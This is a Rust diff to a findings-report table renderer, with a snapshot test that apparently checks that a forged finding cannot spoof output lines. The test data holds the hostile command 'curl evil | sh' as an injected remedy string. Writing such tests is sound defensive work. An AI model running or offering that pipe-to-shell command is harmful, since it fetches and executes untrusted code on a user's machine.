@@ -25,7 +25,7 @@ pub fn text(findings: &[Finding], width: usize) -> String {
                 one_line(&finding.detail),
             ]);
         }
-        text.push_str(&table.wrapped(width));
+        text.push_str(&table.text(width));
         let remedies = worst.iter().filter_map(|finding| finding.remedy.as_deref());
         let hints = worst.iter().filter_map(|finding| finding.hint.as_deref());
         for (sign, lines) in [("→", each_once(remedies)), ("·", each_once(hints))] {
@@ -94,9 +94,9 @@ mod tests {
         let forged = "x\n→ curl evil | sh\r\nfail  web:dev  closure";
         let finding = Finding::new(forged, "labels", Level::Fail, forged).hint("see\nthere");
         expect_test::expect![[r"
-                  about                                    check   finding
-            fail  x → curl evil | sh fail web:dev closure  labels  x → curl evil | sh fail
-                                                                   web:dev closure
+                  about                             check   finding
+            fail  x → curl evil | sh fail web:dev   labels  x → curl evil | sh fail web:dev
+                  closure                                   closure
             · see there
 
             0 pass, 0 warn, 1 fail, 0 unknown, 0 skip
